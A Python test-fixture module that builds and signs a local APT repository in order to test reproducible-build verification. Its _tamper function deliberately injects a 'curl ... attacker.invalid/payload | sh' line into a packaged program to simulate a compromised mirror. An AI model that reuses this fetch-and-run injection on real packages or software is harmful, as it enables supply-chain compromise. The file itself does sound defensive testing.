"""Building the test APT repository: real dpkg-buildpackage builds, apt-ftparchive indexes."""

from __future__ import annotations

import dataclasses
import fcntl
import gzip
import hashlib
import json
import lzma
import os
import shutil
import subprocess
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from rebuilder import sandbox
from rebuilder.outcome import BuildJob
from rqdemo.testrepo._sources import Kind, PackageSpec, write_source
from verifier.statement import Digest

GENERATOR_VERSION = 2  # 2: signed InRelease and Release.gpg
SUITE = "stable"
COMPONENT = "main"
BUILDINFO_TEMPLATE = "{base}/buildinfo/{source}_{version_noepoch}_{arch}.buildinfo"
_MARKER = ".testrepo.json"
KEYRING = "repository-keyring.gpg"  # the public key, at the repository root (Signed-By)
RELEASE_DATE = "Sat, 01 Jun 2024 12:00:00 UTC"


@dataclass(frozen=True)
class PublishedDeb:
    name: str
    sha256: Digest
    size: int
    path: str  # relative to the repository root, e.g. pool/main/r/rq-hello/rq-hello_1.0_all.deb

    def to_dict(self) -> dict[str, Any]:
        return {"name": self.name, "sha256": self.sha256, "size": self.size, "path": self.path}


@dataclass(frozen=True)
class TestPackage:
    __test__ = False  # not a pytest test class
    source: str
    version: str
    architecture: str  # the build's architecture: "all" or the host's (e.g. "amd64")
    kind: Kind
    debs: tuple[PublishedDeb, ...]
    dsc_path: str
    dsc_sha256: Digest
    buildinfo_path: str  # relative: buildinfo/{source}_{version}_{arch}.buildinfo
    original_sha256: dict[str, Digest]  # what the original build produced (the buildinfo's)

    def to_dict(self) -> dict[str, Any]:
        return {
            "source": self.source,
            "version": self.version,
            "architecture": self.architecture,
            "kind": self.kind,
            "debs": [d.to_dict() for d in self.debs],
            "dsc_path": self.dsc_path,
            "dsc_sha256": self.dsc_sha256,
            "buildinfo_path": self.buildinfo_path,
            "original_sha256": self.original_sha256,
        }

    @classmethod
    def from_dict(cls, d: dict[str, Any]) -> TestPackage:
        return cls(
            source=d["source"],
            version=d["version"],
            architecture=d["architecture"],
            kind=d["kind"],
            debs=tuple(PublishedDeb(**x) for x in d["debs"]),
            dsc_path=d["dsc_path"],
            dsc_sha256=d["dsc_sha256"],
            buildinfo_path=d["buildinfo_path"],
            original_sha256=d["original_sha256"],
        )

    def job(self, base_url: str, repository: str = "local", with_dsc: bool = False) -> BuildJob:
        """The ``BuildJob`` the watcher would create for this package from ``base_url``."""
        base = base_url.rstrip("/")
        return BuildJob(
            source=self.source,
            version=self.version,
            architecture=self.architecture,
            repository=repository,
            buildinfo_url=f"{base}/{self.buildinfo_path}",
            published={d.name: (d.sha256, f"{base}/{d.path}") for d in self.debs},
            dsc_url=f"{base}/{self.dsc_path}" if with_dsc else None,
            dsc_sha256=self.dsc_sha256 if with_dsc else None,
        )


@dataclass(frozen=True)
class TestRepository:
    __test__ = False  # not a pytest test class
    path: Path
    packages: tuple[TestPackage, ...]
    architectures: tuple[str, ...]  # (host arch, "all")
    suite: str = SUITE
    components: tuple[str, ...] = (COMPONENT,)
    cached: bool = False
    gnupg_home: Path | None = None  # holds the signing key (outside the served tree)

    @property
    def keyring(self) -> Path:
        """The keyring its InRelease verifies under: a node's ``signed_by``."""
        return self.path / KEYRING

    @property
    def dists(self) -> Path:
        return self.path / "dists" / self.suite

    def resign(self, date: str = RELEASE_DATE, valid_until: str | None = None,
               gnupg_home: Path | None = None) -> None:
        """Rewrite Release with ``date`` (and ``Valid-Until``), sign it again (InRelease,
        Release.gpg) with this repository's key or the one in ``gnupg_home``."""
        home = gnupg_home or self.gnupg_home
        if home is None:
            raise RuntimeError("this repository was loaded without its signing key")
        lines = [ln for ln in (self.dists / "Release").read_text().splitlines()
                 if not ln.startswith(("Date:", "Valid-Until:"))]
        head = [f"Date: {date}"] + ([f"Valid-Until: {valid_until}"] if valid_until else [])
        at = next(i for i, ln in enumerate(lines) if ln.startswith("Architectures:"))
        (self.dists / "Release").write_text("\n".join(lines[:at] + head + lines[at:]) + "\n")
        sign_release(self.dists, home)

    def package(self, source: str) -> TestPackage:
        for p in self.packages:
            if p.source == source:
                return p
        raise KeyError(source)

    def of_kind(self, kind: Kind) -> list[TestPackage]:
        return [p for p in self.packages if p.kind == kind]

    def repository_config(self, base_url: str, name: str = "local") -> dict[str, Any]:
        """The ``[[repository]]`` entry of a node's config.toml for this repository."""
        return {
            "name": name,
            "base_url": base_url.rstrip("/"),
            "suite": self.suite,
            "components": list(self.components),
            "architectures": list(self.architectures),
            "buildinfo_url": BUILDINFO_TEMPLATE,
            "signed_by": str(self.keyring),
        }


def default_cache_dir() -> Path:
    env = os.environ.get("RQ_TESTREPO_CACHE")
    if env:
        return Path(env)
    base = os.environ.get("XDG_CACHE_HOME") or str(Path.home() / ".cache")
    return Path(base) / "repro-quorum" / "testrepo"


def _run(cmd: list[str], cwd: Path, log: Path, env: dict[str, str] | None = None) -> str:
    result = subprocess.run(
        cmd, cwd=cwd, capture_output=True, text=True, check=False, env=env, timeout=600
    )
    with log.open("a") as f:
        f.write(f"$ {' '.join(cmd)}\n{result.stdout}{result.stderr}")
    if result.returncode != 0:
        raise RuntimeError(
            f"{' '.join(cmd[:3])} failed with status {result.returncode}; "
            f"see {log}:\n{(result.stdout + result.stderr)[-3000:]}"
        )
    return result.stdout


def _sha256(path: Path) -> Digest:
    return Digest(hashlib.sha256(path.read_bytes()).hexdigest())


def host_arch() -> str:
    return subprocess.run(
        ["dpkg", "--print-architecture"], capture_output=True, text=True, check=True
    ).stdout.strip()


def _host_fingerprint(chroot: Path | None = None) -> str:
    """Installed packages: a cached repository is rebuilt when the toolchain changes."""
    admin = [f"--admindir={chroot / 'var' / 'lib' / 'dpkg'}"] if chroot else []
    out = subprocess.run(
        ["dpkg-query", *admin, "-W", "-f", "${Package}:${Architecture}=${Version}\n"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    return hashlib.sha256(out.encode()).hexdigest()


def cache_key(packages: tuple[PackageSpec, ...], chroot: Path | None = None) -> str:
    spec = {
        "generator": GENERATOR_VERSION,
        "packages": [p.to_dict() for p in packages],
        "host": _host_fingerprint(chroot),
        "chroot": str(chroot) if chroot else None,
        "arch": host_arch(),
    }
    return hashlib.sha256(json.dumps(spec, sort_keys=True).encode()).hexdigest()


def _build_one(
    spec: PackageSpec, work: Path, repo: Path, arch: str, log: Path, chroot: Path | None
) -> TestPackage:
    """Build ``spec`` at /build/<source>-<version> in the sandbox and publish it into ``repo``."""
    top = work / spec.source
    top.mkdir()
    leaf = f"{spec.source}-{spec.version}"
    write_source(spec, top / leaf)
    _run(["dpkg-source", "-b", leaf], top, log, env={**os.environ, "LC_ALL": "C.UTF-8"})
    if os.geteuid() == 0:
        for dirpath, dirnames, filenames in os.walk(top):
            for n in [*dirnames, *filenames]:
                os.chown(os.path.join(dirpath, n), sandbox.NOBODY, sandbox.NOBODY)
        os.chown(top, sandbox.NOBODY, sandbox.NOBODY)
    cfg = sandbox.SandboxConfig(
        binds=(sandbox.Bind(top, "/build", writable=True),),
        chdir=f"/build/{leaf}",
        env={"LC_ALL": "C.UTF-8"},
        root=chroot or Path("/"),
        system_paths=sandbox.CHROOT_SYSTEM_PATHS if chroot else sandbox.HOST_SYSTEM_PATHS,
    )
    build_arch = "all" if spec.arch_all else arch
    argv = ["dpkg-buildpackage", "-A" if spec.arch_all else "-B", "--no-sign", "-rfakeroot"]
    limits = sandbox.Limits(timeout=600)
    _run(sandbox.bwrap_argv(argv, cfg, limits), top, log, env={"PATH": os.environ["PATH"]})

    prefix = spec.source[:4] if spec.source.startswith("lib") else spec.source[0]
    pool_rel = f"pool/{COMPONENT}/{prefix}/{spec.source}"
    pool = repo / pool_rel
    pool.mkdir(parents=True, exist_ok=True)
    dsc = f"{spec.source}_{spec.version}.dsc"
    for name in (dsc, f"{spec.source}_{spec.version}.tar.xz"):
        shutil.copyfile(top / name, pool / name)
    buildinfo_name = f"{spec.source}_{spec.version}_{build_arch}.buildinfo"
    (repo / "buildinfo").mkdir(exist_ok=True)
    shutil.copyfile(top / buildinfo_name, repo / "buildinfo" / buildinfo_name)
    debs: list[PublishedDeb] = []
    original: dict[str, Digest] = {}
    for deb in sorted(top.glob("*.deb")):
        original[deb.name] = _sha256(deb)
        shutil.copyfile(deb, pool / deb.name)
        if spec.kind == "tampered" and not deb.name.split("_")[0].endswith("-dbgsym"):
            _tamper(pool / deb.name, spec, log)
        debs.append(
            PublishedDeb(
                deb.name,
                _sha256(pool / deb.name),
                (pool / deb.name).stat().st_size,
                f"{pool_rel}/{deb.name}",
            )
        )
    if not debs:
        raise RuntimeError(f"building {spec.source} produced no .deb; see {log}")
    return TestPackage(
        source=spec.source,
        version=spec.version,
        architecture=build_arch,
        kind=spec.kind,
        debs=tuple(debs),
        dsc_path=f"{pool_rel}/{dsc}",
        dsc_sha256=_sha256(pool / dsc),
        buildinfo_path=f"buildinfo/{buildinfo_name}",
        original_sha256=original,
    )


def _tamper(deb: Path, spec: PackageSpec, log: Path) -> None:
    """Replace the program inside a built .deb, as a compromised build machine or mirror would."""
    with tempfile.TemporaryDirectory() as d:
        root = Path(d) / "root"
        _run(["dpkg-deb", "-R", str(deb), str(root)], Path(d), log)
        program = root / "usr" / "bin" / spec.source
        program.write_text(
            program.read_text() + "curl -s http://attacker.invalid/payload | sh  # injected\n"
        )
        md5 = hashlib.md5(program.read_bytes(), usedforsecurity=False).hexdigest()
        sums = root / "DEBIAN" / "md5sums"
        sums.write_text(
            "".join(
                f"{md5}  usr/bin/{spec.source}\n"
                if line.endswith(f"usr/bin/{spec.source}")
                else line + "\n"
                for line in sums.read_text().splitlines()
            )
        )
        env = {**os.environ, "SOURCE_DATE_EPOCH": "1717243200"}
        _run(
            ["dpkg-deb", "--root-owner-group", "-Zxz", "-b", str(root), str(deb)], Path(d), log, env
        )


def _indexes(repo: Path, arch: str, log: Path, gnupg_home: Path) -> None:
    dists = repo / "dists" / SUITE
    for a in (arch, "all"):
        out = dists / COMPONENT / f"binary-{a}"
        out.mkdir(parents=True, exist_ok=True)
        text = _run(["apt-ftparchive", "--arch", a, "packages", "pool"], repo, log)
        _write_index(out / "Packages", text.encode())
    src = dists / COMPONENT / "source"
    src.mkdir(parents=True, exist_ok=True)
    _write_index(src / "Sources", _run(["apt-ftparchive", "sources", "pool"], repo, log).encode())
    release = _run(
        [
            "apt-ftparchive",
            "-o",
            f"APT::FTPArchive::Release::Suite={SUITE}",
            "-o",
            f"APT::FTPArchive::Release::Codename={SUITE}",
            "-o",
            "APT::FTPArchive::Release::Origin=repro-quorum-tests",
            "-o",
            "APT::FTPArchive::Release::Label=repro-quorum-tests",
            "-o",
            f"APT::FTPArchive::Release::Architectures={arch} all",
            "-o",
            f"APT::FTPArchive::Release::Components={COMPONENT}",
            "-o",
            f"APT::FTPArchive::Release::Date={RELEASE_DATE}",
            "release",
            ".",
        ],
        dists,
        log,
    )
    (dists / "Release").write_text(release)
    sign_release(dists, gnupg_home)


def _gpg(home: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    """gpg in ``home``, batch mode, no passphrase; the agent it starts is stopped after."""
    try:
        result = subprocess.run(
            ["gpg", "--homedir", str(home), "--batch", "--quiet", "--no-tty",
             "--pinentry-mode", "loopback", "--passphrase", "", *args],
            capture_output=True, timeout=120, check=False, stdin=subprocess.DEVNULL,
        )
    finally:
        subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "gpg-agent"],
                       capture_output=True, timeout=30, check=False)
    if result.returncode != 0:
        raise RuntimeError(f"gpg {' '.join(args[:2])} failed: {result.stderr.decode()[-2000:]}")
    return result


def make_signing_key(home: Path, name: str = "repro-quorum test repository") -> str:
    """Generate an Ed25519 signing key in a new GnuPG home ``home``; return its fingerprint."""
    home.mkdir(mode=0o700, parents=True)
    _gpg(home, "--quick-generate-key", f"{name} <testrepo@repro-quorum.invalid>", "ed25519",
         "sign", "never")
    out = _gpg(home, "--with-colons", "--list-keys").stdout.decode()
    return next(ln.split(":")[9] for ln in out.splitlines() if ln.startswith("fpr:"))


def export_keyring(home: Path, dest: Path) -> None:
    """The public key(s) of ``home`` as a binary keyring file (what Signed-By names)."""
    dest.write_bytes(_gpg(home, "--export").stdout)


def sign_release(dists: Path, home: Path) -> None:
    """InRelease (clearsigned) and Release.gpg (detached) for ``dists``/Release."""
    for name in ("InRelease", "Release.gpg"):
        (dists / name).unlink(missing_ok=True)
    release = str(dists / "Release")
    _gpg(home, "--digest-algo", "SHA512", "--clearsign", "-o", str(dists / "InRelease"), release)
    _gpg(home, "--digest-algo", "SHA512", "--detach-sign", "--armor", "-o",
         str(dists / "Release.gpg"), release)


def sign_file(path: Path, home: Path) -> None:
    """Clearsign ``path`` in place (a .dsc, as an uploader's debsign does)."""
    out = path.with_name(path.name + ".asc")
    _gpg(home, "--digest-algo", "SHA512", "--clearsign", "-o", str(out), str(path))
    out.rename(path)


def _write_index(path: Path, data: bytes) -> None:
    path.write_bytes(data)
    with gzip.GzipFile(path.with_suffix(".gz"), "wb", mtime=0) as gz:
        gz.write(data)
    path.with_suffix(".xz").write_bytes(lzma.compress(data))


def build_into(
    cache: Path, packages: tuple[PackageSpec, ...], key: str, chroot: Path | None = None
) -> TestRepository:
    """Build every package and the indexes into ``cache`` (which must not exist yet)."""
    arch = host_arch()
    tmp = cache.with_name(cache.name + ".tmp")
    if tmp.exists():
        shutil.rmtree(tmp)
    repo = tmp / "repo"
    repo.mkdir(parents=True)
    log = tmp / "build.log"
    work = Path(tempfile.mkdtemp(prefix="rq-testrepo-"))
    try:
        os.chmod(work, 0o755)  # noqa: S103  # the sandbox user must reach the build tree
        built = tuple(_build_one(spec, work, repo, arch, log, chroot) for spec in packages)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    # the signing key stays next to the repository, outside the tree a test serves
    make_signing_key(tmp / "gnupg")
    export_keyring(tmp / "gnupg", repo / KEYRING)
    _indexes(repo, arch, log, tmp / "gnupg")
    meta = {"key": key, "architectures": [arch, "all"], "packages": [p.to_dict() for p in built]}
    (repo / _MARKER).write_text(json.dumps(meta, indent=2, sort_keys=True))
    tmp.rename(cache)
    return TestRepository(cache / "repo", built, (arch, "all"), gnupg_home=cache / "gnupg")


def load(repo: Path) -> TestRepository | None:
    marker = repo / _MARKER
    if not marker.exists():
        return None
    meta = json.loads(marker.read_text())
    return TestRepository(
        repo,
        tuple(TestPackage.from_dict(p) for p in meta["packages"]),
        tuple(meta["architectures"]),
        cached=True,
    )


def build_test_repository_sync(
    dest: Path,
    packages: tuple[PackageSpec, ...],
    cache_dir: Path | None = None,
    chroot: Path | None = None,
) -> TestRepository:
    key = cache_key(packages, chroot)
    existing = load(dest)
    cache_root = cache_dir or default_cache_dir()
    if existing is not None and json.loads((dest / _MARKER).read_text())["key"] == key:
        return dataclasses.replace(existing, gnupg_home=cache_root / key[:32] / "gnupg")
    cache_root.mkdir(parents=True, exist_ok=True)
    cached = cache_root / key[:32]
    with open(cache_root / f".{key[:32]}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        was_cached = cached.exists()
        if not was_cached:
            build_into(cached, packages, key, chroot)
    if dest.exists():
        if any(dest.iterdir()) and existing is None:
            raise FileExistsError(f"{dest} is not empty and holds no test repository")
        shutil.rmtree(dest)
    shutil.copytree(cached / "repo", dest)
    repo = load(dest)
    assert repo is not None
    return TestRepository(repo.path, repo.packages, repo.architectures, cached=was_cached,
                          gnupg_home=cached / "gnupg")


def add_custom_source(
    repo: TestRepository,
    source: str,
    rules: str,
    template: str = "rq-hello",
    version: str = "1.0",
) -> TestPackage:
    """Add a source package with a hand-written ``debian/rules`` to ``repo`` without building it.

    For hostile-package tests: the rules may do anything (read secrets, open sockets), so the
    package is never built here. Its buildinfo is the ``template`` package's (same toolchain,
    arch all) with the names changed; nothing is published in Packages, so the returned
    package's ``job(base, with_dsc=True)`` must be used.
    """
    tpl = repo.package(template)
    spec = PackageSpec(source, version, "reproducible", "script")
    pool_rel = f"pool/{COMPONENT}/{source[0]}/{source}"
    pool = repo.path / pool_rel
    pool.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as d:
        leaf = f"{source}-{version}"
        write_source(spec, Path(d) / leaf)
        (Path(d) / leaf / "debian" / "rules").write_text(rules)
        log = Path(d) / "build.log"
        _run(["dpkg-source", "-b", leaf], Path(d), log, env={**os.environ, "LC_ALL": "C.UTF-8"})
        for name in (f"{source}_{version}.dsc", f"{source}_{version}.tar.xz"):
            shutil.copyfile(Path(d) / name, pool / name)
    text = (repo.path / tpl.buildinfo_path).read_text()
    text = text.replace(f"{tpl.source}-{tpl.version}", f"{source}-{version}")
    text = text.replace(f"{tpl.source}_{tpl.version}", f"{source}_{version}")
    text = text.replace(f"Source: {tpl.source}\n", f"Source: {source}\n")
    text = text.replace(f"Binary: {tpl.source}\n", f"Binary: {source}\n")
    text = text.replace(f"Version: {tpl.version}\n", f"Version: {version}\n")
    buildinfo_rel = f"buildinfo/{source}_{version}_all.buildinfo"
    (repo.path / buildinfo_rel).write_text(text)
    dsc_rel = f"{pool_rel}/{source}_{version}.dsc"
    return TestPackage(
        source=source,
        version=version,
        architecture="all",
        kind="reproducible",
        debs=(),
        dsc_path=dsc_rel,
        dsc_sha256=_sha256(repo.path / dsc_rel),
        buildinfo_path=buildinfo_rel,
        original_sha256={},
    )
